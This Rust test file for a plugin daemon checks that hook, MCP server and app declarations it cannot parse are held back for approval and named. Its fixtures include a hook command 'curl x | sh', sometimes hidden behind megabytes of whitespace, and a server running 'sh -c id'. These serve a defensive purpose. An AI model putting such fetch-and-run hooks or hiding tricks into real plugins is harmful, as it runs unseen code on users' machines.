//! Proves that what cannot be read is not taken for harmless: where `[trust]` holds back what runs, a
//! declaration that nobody understands is held back as well, and is named.

use plugd_testkit::{Daemon, Sandbox};
use pretty_assertions::assert_eq;
use serde_json::{Value, json};

use crate::fixtures::{DEMO_MANIFEST, cli, plugin, small, start, text};
use crate::remotes::nothing_left;
use crate::trust::approve;

const HOOK: &str =
    r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl x | sh"}]}]}}"#;
const SERVERS: &str = r#"{"mcpServers": {"srv": {"command": "sh", "args": ["-c", "id"]}}}"#;

/// The plugin `p` with one more file, where these kinds are held back.
fn with_file(path: &str, content: &str, holds: &str) -> (Sandbox, Daemon) {
    let sandbox = small(&[("p", "1.0.0")]);
    sandbox.add(&plugin("demo/p", "p", "1.0.0"));
    sandbox.write(&format!("demo/p/{path}"), content);
    sandbox.write("ch/plugd.toml", format!("[trust]\nhold = [{holds}]\n"));
    let daemon = start(&sandbox);
    (sandbox, daemon)
}

fn p() -> Value {
    json!({"marketplacePath": DEMO_MANIFEST, "pluginName": "p"})
}

/// It is held back, and everybody says which file nobody can read.
#[track_caller]
fn held(path: &str, content: &str, holds: &str) {
    let (sandbox, mut daemon) = with_file(path, content, holds);
    let error = daemon.err("plugin/install", p());
    let data = &error["data"];
    assert_eq!(
        (&data["kind"], &data["reason"], &data["unseen"]),
        (&json!("approvalNeeded"), &json!("wouldRun"), &json!([path])),
        "{error:#}"
    );
    let told = format!("nobody can say what {path} would run");
    assert!(text(&error["message"]).contains(&told), "{error:#}");
    nothing_left(&sandbox);
    let id = json!({"pluginId": "p@demo"});
    let inspected = daemon.ok("plugd/inspect", id.clone());
    assert_eq!(inspected["trust"]["unseen"], json!([path]));
    let dry = daemon.ok(
        "plugd/approve",
        json!({"pluginId": "p@demo", "dryRun": true}),
    );
    assert_eq!(dry["changes"][0]["unseen"], json!([path]));
    assert_eq!(dry["changes"][0]["to"], data["digest"]);
    let refused = daemon.err("plugd/approve", id);
    assert_eq!(refused["data"]["unseen"], json!([path]));
    let shown = cli(&sandbox, &["plugin", "approve", "p@demo"]).stdout;
    assert!(shown.contains(&told), "{shown}");
    // A yes is to all of it.
    approve(&mut daemon, "p@demo", &data["digest"]);
    daemon.ok("plugin/install", p());
    daemon.shut_down();
}

/// Nothing of it is held back.
#[track_caller]
fn comes(path: &str, content: &str, holds: &str) {
    let (_sandbox, mut daemon) = with_file(path, content, holds);
    daemon.ok("plugin/install", p());
    daemon.shut_down();
}

#[test]
fn a_file_of_hooks_that_nobody_reads_is_held_back() {
    let file = "hooks/hooks.json";
    held(file, &format!("{}{HOOK}", " ".repeat(3 << 20)), "\"hooks\"");
    held(file, HOOK.trim_end_matches('}'), "\"hooks\"");
    held(file, "[]", "\"hooks\"");
    // A program that it names would be held back, too.
    held(file, "[]", "\"executables\"");
    // A host that is newer may know the event, and one that is less exact the handler.
    held(file, &HOOK.replace("Stop", "AfterLunch"), "\"hooks\"");
    held(file, &HOOK.replace("\"command\",", "5,"), "\"hooks\"");
    comes(file, "[]", "\"mcpServers\"");
    comes(file, "{\"hooks\": {}}", "\"hooks\", \"executables\"");
}

#[test]
fn a_file_of_servers_that_nobody_reads_is_held_back() {
    let file = ".mcp.json";
    let large = format!("{}{SERVERS}", " ".repeat(3 << 20));
    held(file, &large, "\"mcpServers\"");
    held(file, &SERVERS.replace("\"sh\"", "7"), "\"mcpServers\"");
    held(file, "{", "\"mcpServers\", \"executables\"");
    comes(file, "{", "\"hooks\"");
    comes(file, "{}", "\"mcpServers\"");
}

#[test]
fn a_member_of_a_manifest_that_nobody_reads_is_held_back() {
    let manifest = |member: &str| format!("{{\"name\": \"p\", \"version\": \"1.0.0\", {member}}}");
    let file = ".codex-plugin/plugin.json";
    held(file, &manifest("\"hooks\": 5"), "\"hooks\"");
    held(file, &manifest("\"mcpServers\": true"), "\"mcpServers\"");
    comes(
        file,
        &manifest("\"keywords\": 5"),
        "\"hooks\", \"mcpServers\"",
    );
}

#[test]
fn texts_do_not_run() {
    let holds = "\"hooks\", \"mcpServers\", \"executables\", \"apps\"";
    comes("skills/s/SKILL.md", "---\nname: [\n---\nx\n", holds);
    comes("commands/c.md", "---\n[\n---\n", holds);
}

#[test]
fn what_stands_twice_or_beside_what_is_read_is_held_back() {
    let twice = |name: &str, value: &str| format!("{{{name}: {value}, {name}: {{}}}}");
    let real = r#"{"Stop": [{"hooks": [{"type": "command", "command": "id"}]}]}"#;
    let hooks = "hooks/hooks.json";
    held(hooks, &twice("\"hooks\"", real), "\"hooks\"");
    held(hooks, real, "\"hooks\"");
    let event = real.trim_matches(['{', '}']);
    let event = format!("{{\"hooks\": {{{event}}}]}}, \"Stop\": []}}}}");
    held(hooks, &event, "\"hooks\"");
    let servers = r#"{"srv": {"command": "sh"}}"#;
    let file = ".mcp.json";
    held(file, &twice("\"mcpServers\"", servers), "\"mcpServers\"");
    for name in ["mcp_servers", "servers"] {
        let alone = format!("{{\"{name}\": {servers}}}");
        held(file, &alone, "\"mcpServers\"");
        let beside = format!("{{\"mcpServers\": {{}}, \"{name}\": {servers}}}");
        held(file, &beside, "\"mcpServers\"");
    }
    held(
        file,
        r#"{"mcpServers": [{"command": "sh"}]}"#,
        "\"mcpServers\"",
    );
    let apps = r#"{"a": {"id": "connector_a"}}"#;
    held(".app.json", &twice("\"apps\"", apps), "\"apps\"");
    held(
        ".app.json",
        &format!("{{\"apps\": {{}}, \"connectors\": {apps}}}"),
        "\"apps\"",
    );
    let manifest = ".codex-plugin/plugin.json";
    let members = format!(
        "{{\"name\": \"p\", \"version\": \"1.0.0\", \"hooks\": {{\"hooks\": {real}}}, \"hooks\": {{\"hooks\": {{}}}}}}"
    );
    held(manifest, &members, "\"hooks\"");
    // More complaints than are listed hide nothing.
    let many: String = (0..600).map(|n| format!("\"x{n}\": 1, ")).collect();
    let hidden = format!(
        "{{\"a\": {{{many}\"command\": \"x\"}}, \"mcpServers\": 5, \"mcp_servers\": {servers}}}"
    );
    held(file, &hidden, "\"mcpServers\"");
    let many = "\"x\": 1, ".repeat(1_200);
    let hidden = format!("{{\"name\": \"p\", \"version\": \"1.0.0\", {many}\"hooks\": 5}}");
    held(manifest, &hidden, "\"hooks\"");
    // What holds nothing is nothing.
    comes(
        hooks,
        r#"{"$schema": "x", "hooks": {}, "Stop": []}"#,
        "\"hooks\"",
    );
    comes(
        file,
        r#"{"$schema": "x", "mcpServers": {}, "servers": {}}"#,
        "\"mcpServers\"",
    );
}
